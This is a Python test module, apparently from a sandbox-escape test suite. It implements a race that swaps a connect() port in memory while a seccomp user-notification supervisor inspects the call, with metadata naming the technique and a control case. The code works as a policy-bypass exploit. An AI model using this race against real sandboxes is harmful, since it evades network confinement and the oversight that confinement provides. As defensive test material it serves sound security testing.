"""Swap the port in memory while the host looks at a connect."""

import ctypes
import struct
import threading
import time

from tests.escape.grants import another_port, connect_tcp
from tests.escape.technique import Granted, Technique


def attack(world):
    buffer = ctypes.create_string_buffer(world.ipv4(9))
    ports = (struct.pack("!H", 9), struct.pack("!H", world.tcp))
    stop = time.monotonic() + 0.25 * world.slowness

    def flip():
        turn, place = 0, ctypes.addressof(buffer) + 2
        while time.monotonic() < stop:
            turn = not turn
            ctypes.memmove(place, ports[turn], 2)

    threads = [threading.Thread(target=flip) for _ in range(2)]
    for thread in threads:
        thread.start()
    while time.monotonic() < stop:
        descriptor = world.libc.socket(2, 1, 0)
        if world.libc.connect(descriptor, buffer, 16) == 0:
            break
        world.libc.close(descriptor)
    for thread in threads:
        thread.join()


TECHNIQUE = Technique(
    source="seccomp_unotify(2): CONTINUE is no security decision on pointers; CVE-2022-24958 class",
    policy=another_port,
    event=("net.connect",),
    by="kernel",
    syscall="connect",
    stops=("notification",),
    control=Granted(connect_tcp),
)
